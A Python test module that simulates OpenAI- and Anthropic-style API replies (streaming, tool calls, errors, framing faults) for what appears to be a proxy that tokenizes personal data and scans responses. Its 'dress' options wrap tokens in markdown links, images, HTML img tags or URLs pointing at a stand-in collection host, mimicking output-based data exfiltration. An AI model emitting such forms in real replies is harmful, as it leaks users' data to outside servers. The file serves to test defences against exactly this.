"""replies.py: what the vendor simulator answers. Pure functions from a request body to a reply plan.

The model name is the script: `sim-` and operations joined by dots, each with an optional argument behind a hyphen,
for example `sim-echo`, `sim-split-3`, `sim-tool.split-1`, `sim-echo.lower`, `sim-slow-50.split-8`.

  what is said      echo (default), tool, newpii, big-BYTES, say (only the words `Understood.`), thinking (Anthropic),
                    store-ID (echo, and keep it), recall-ID (what was kept, as a vendor with conversations says it)
  how tokens look   lower, upper, bare (no brackets), emphasis, escape, hyphen, link, image, html, url, repeat-N
  pieces            split-N (text in deltas of N characters), pair (two choices, interleaved), usage
  wire              wire-N (TLS records of N bytes), slow-MS (pause between pieces), first-MS (pause before the head),
                    crlf (SSE with CRLF), comments (SSE comment lines), ping, ascii (all non-ASCII escaped), pretty
  framing           length, chunked, close (connection: close), untilclose
  trouble           status-N, gzip, truncate, reset, drop, html-type, badjson, midstream, redirect, unfinished
"""
import json
import re
import time

KEPT = {}  # what `store-ID` heard
TOKEN = re.compile(r"\[([A-Z][A-Z-]+-[0-9A-Z]{23})\]")


class Script:
    """The operations named by a model name."""

    def __init__(self, model):
        self.operations = {}
        name = model if isinstance(model, str) else ""
        if name.startswith("sim-"):
            for piece in name[4:].split("."):
                word, _, argument = piece.partition("-")
                if word == "new":
                    word, argument = "newpii", ""
                self.operations[word] = argument

    def has(self, word):
        return word in self.operations

    def number(self, word, default):
        try:
            return int(self.operations[word])
        except (KeyError, ValueError):
            return default


def text_of(content):
    """The text of a message's content, a string or a list of blocks, of either vendor."""
    if isinstance(content, str):
        return content
    pieces = []
    for block in content if isinstance(content, list) else []:
        if not isinstance(block, dict):
            continue
        if isinstance(block.get("text"), str):
            pieces.append(block["text"])
        elif block.get("type") == "tool_result":
            pieces.append(text_of(block.get("content", "")))
    return "\n".join(pieces)


def last_text(body):
    for message in reversed(body.get("messages") or []):
        if isinstance(message, dict) and message.get("role") in ("user", "tool"):
            return text_of(message.get("content", ""))
    return ""


def dress(text, script):
    """What models do to tokens."""
    def each(form):
        return TOKEN.sub(form, text)

    if script.has("lower"):
        text = each(lambda m: m.group(0).lower())
    if script.has("upper"):
        text = each(lambda m: m.group(0).upper())
    if script.has("bare"):
        text = each(lambda m: m.group(1))
    if script.has("emphasis"):
        text = each(lambda m: "**" + m.group(0) + "**")
    if script.has("escape"):
        text = each(lambda m: "\\[" + m.group(1) + "\\]")
    if script.has("hyphen"):
        text = each(lambda m: m.group(0).replace("-", "\u2011"))
    if script.has("link"):
        text = each(lambda m: "[click](https://collect.example/?d=" + m.group(0) + ")")
    if script.has("image"):
        text = each(lambda m: "![x](https://collect.example/" + m.group(1) + ".png)")
    if script.has("html"):
        text = each(lambda m: '<img src="https://collect.example/' + m.group(1) + '">')
    if script.has("url"):
        text = each(lambda m: "https://collect.example/" + m.group(1) + "/x")
    if script.has("repeat"):
        text = "\n".join([text] * script.number("repeat", 2))
    return text


def reply_text(body, script):
    said = last_text(body)
    if script.has("say"):
        return "Understood."
    if script.has("newpii"):
        # Data that no request carried: the response scan has to see it.
        return ("Contact the branch at " + "branch.office" + "@" + "northwind-example.com or on "
                + "+1 415 " + "555 0132" + ", they will help.")
    if script.has("big"):
        size = script.number("big", 65536)
        line = "The quick brown fox counts sheep and writes the number down in a ledger.\n"
        return (line * (size // len(line) + 1))[:size]
    if script.has("store"):
        KEPT[script.operations["store"]] = said
    if script.has("recall"):
        said = KEPT.get(script.operations["recall"], "nothing")
    return dress("You said: " + said, script)


def tool_arguments(body, script):
    said = dress(last_text(body), script)
    return {"query": said, "nested": {"list": [said, "plain"], "quote": 'a "quoted" \\ path', "count": 3}}


def pieces_of(text, script):
    size = script.number("split", 24)
    return [text[i:i + size] for i in range(0, len(text), max(1, size))] or [""]


def tool_name(body):
    for tool in body.get("tools") or []:
        if isinstance(tool, dict):
            name = (tool.get("function") or {}).get("name") if "function" in tool else tool.get("name")
            if name:
                return name
    return "look_up"


def compact(value, script):
    if script.has("pretty"):
        return json.dumps(value, ensure_ascii=script.has("ascii"), indent=2)
    return json.dumps(value, ensure_ascii=script.has("ascii"), separators=(",", ":"))


def wants_tool(body, script):
    return script.has("tool") and (bool(body.get("tools")) or script.operations["tool"] == "always")


# --- OpenAI chat completions -------------------------------------------------------------------

def openai_usage(body, text):
    prompt = max(1, len(json.dumps(body.get("messages", []))) // 4)
    answer = max(1, len(text) // 4)
    return {"prompt_tokens": prompt, "completion_tokens": answer, "total_tokens": prompt + answer,
            "prompt_tokens_details": {"cached_tokens": 0, "audio_tokens": 0}}


def openai_count(body, script):
    asked = body.get("n")
    return 2 if script.has("pair") else asked if isinstance(asked, int) and 1 < asked <= 8 else 1


def openai_json(body, script, sequence):
    text, tool = reply_text(body, script), wants_tool(body, script)
    message = {"role": "assistant", "content": None if tool else text, "refusal": None, "annotations": []}
    if tool:
        message["tool_calls"] = [{
            "id": f"call_sim{sequence:08d}", "type": "function",
            "function": {"name": tool_name(body), "arguments": compact(tool_arguments(body, script), script)}}]
    choices = [{"index": i, "message": message, "logprobs": None, "finish_reason": "tool_calls" if tool else "stop"}
               for i in range(openai_count(body, script))]
    return {"id": f"chatcmpl-sim{sequence:08d}", "object": "chat.completion", "created": int(time.time()),
            "model": body.get("model"), "choices": choices, "usage": openai_usage(body, text),
            "service_tier": "default", "system_fingerprint": "fp_sim"}


def openai_events(body, script, sequence):
    """Yields (event name or None, data text)."""
    base = {"id": f"chatcmpl-sim{sequence:08d}", "object": "chat.completion.chunk", "created": int(time.time()),
            "model": body.get("model"), "service_tier": "default", "system_fingerprint": "fp_sim"}
    usage_wanted = bool((body.get("stream_options") or {}).get("include_usage"))

    def chunk(index, delta, finish=None):
        value = dict(base, choices=[{"index": index, "delta": delta, "logprobs": None, "finish_reason": finish}])
        if usage_wanted:
            value["usage"] = None
        return None, compact(value, script)

    indexes = range(openai_count(body, script))
    text = reply_text(body, script)
    if wants_tool(body, script):
        arguments = compact(tool_arguments(body, script), Script(""))
        for index in indexes:
            yield chunk(index, {"role": "assistant", "content": None, "refusal": None, "tool_calls": [
                {"index": 0, "id": f"call_sim{sequence:08d}", "type": "function",
                 "function": {"name": tool_name(body), "arguments": ""}}]})
        for piece in pieces_of(arguments, script):
            for index in indexes:
                yield chunk(index, {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})
        for index in indexes:
            yield chunk(index, {}, "tool_calls")
    else:
        for index in indexes:
            yield chunk(index, {"role": "assistant", "content": "", "refusal": None})
        for number, piece in enumerate(pieces_of(text, script)):
            if script.has("midstream") and number == 3:
                yield None, compact({"error": {"message": "The server had an error", "type": "server_error",
                                               "param": None, "code": None}}, script)
                return
            for index in indexes:
                yield chunk(index, {"content": piece})
        for index in indexes:
            yield chunk(index, {}, "stop")
    if usage_wanted or script.has("usage"):
        yield None, compact(dict(base, choices=[], usage=openai_usage(body, text)), script)
    yield None, "[DONE]"


def openai_error(status, message, kind="server_error"):
    return {"error": {"message": message, "type": kind, "param": None, "code": f"sim_{status}"}}


# --- Anthropic messages ------------------------------------------------------------------------

def anthropic_usage(body, text):
    return {"input_tokens": max(1, len(json.dumps(body.get("messages", []))) // 4),
            "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0,
            "output_tokens": max(1, len(text) // 4), "service_tier": "standard"}


def anthropic_blocks(body, script, sequence):
    text, blocks = reply_text(body, script), []
    if script.has("thinking"):
        blocks.append({"type": "thinking", "thinking": "The user wrote: " + last_text(body),
                       "signature": "c2lnbmF0dXJl"})
    if wants_tool(body, script):
        blocks.append({"type": "text", "text": "Let me look."})
        blocks.append({"type": "tool_use", "id": f"toolu_sim{sequence:08d}", "name": tool_name(body),
                       "input": tool_arguments(body, script)})
        return text, blocks, "tool_use"
    blocks.append({"type": "text", "text": text})
    return text, blocks, "end_turn"


def anthropic_json(body, script, sequence):
    text, blocks, stop = anthropic_blocks(body, script, sequence)
    return {"id": f"msg_sim{sequence:08d}", "type": "message", "role": "assistant", "model": body.get("model"),
            "content": blocks, "stop_reason": stop, "stop_sequence": None, "usage": anthropic_usage(body, text)}


def block_events(index, block, script, event):
    """content_block_start, the deltas and content_block_stop of one block."""
    if block["type"] == "tool_use":
        start = dict(block, input={})
        deltas = [{"type": "input_json_delta", "partial_json": p}
                  for p in [""] + pieces_of(compact(block["input"], Script("")), script)]
    elif block["type"] == "thinking":
        start = {"type": "thinking", "thinking": "", "signature": ""}
        deltas = [{"type": "thinking_delta", "thinking": p} for p in pieces_of(block["thinking"], script)]
        deltas.append({"type": "signature_delta", "signature": block["signature"]})
    else:
        start = {"type": "text", "text": ""}
        deltas = [{"type": "text_delta", "text": p} for p in pieces_of(block["text"], script)]
    yield event("content_block_start", index=index, content_block=start)
    if index == 0 or script.has("ping"):
        yield event("ping")
    for delta in deltas:
        yield event("content_block_delta", index=index, delta=delta)
    yield event("content_block_stop", index=index)


def anthropic_events(body, script, sequence):
    text, blocks, stop = anthropic_blocks(body, script, sequence)
    usage = anthropic_usage(body, text)

    def event(name, **fields):
        return name, compact(dict({"type": name}, **fields), script)

    yield event("message_start", message={
        "id": f"msg_sim{sequence:08d}", "type": "message", "role": "assistant", "model": body.get("model"),
        "content": [], "stop_reason": None, "stop_sequence": None, "usage": dict(usage, output_tokens=1)})
    count = 0
    for index, block in enumerate(blocks):
        for item in block_events(index, block, script, event):
            count += 1
            if script.has("midstream") and count == 5:
                yield event("error", error={"type": "overloaded_error", "message": "Overloaded"})
                return
            yield item
    yield event("message_delta", delta={"stop_reason": stop, "stop_sequence": None},
                usage={"output_tokens": usage["output_tokens"]})
    yield event("message_stop")


def anthropic_error(status, message, kind="api_error"):
    return {"type": "error", "error": {"type": kind, "message": message}, "request_id": f"req_sim{status}"}


KINDS = {
    "/v1/chat/completions": (openai_json, openai_events, openai_error),
    "/v1/messages": (anthropic_json, anthropic_events, anthropic_error),
}
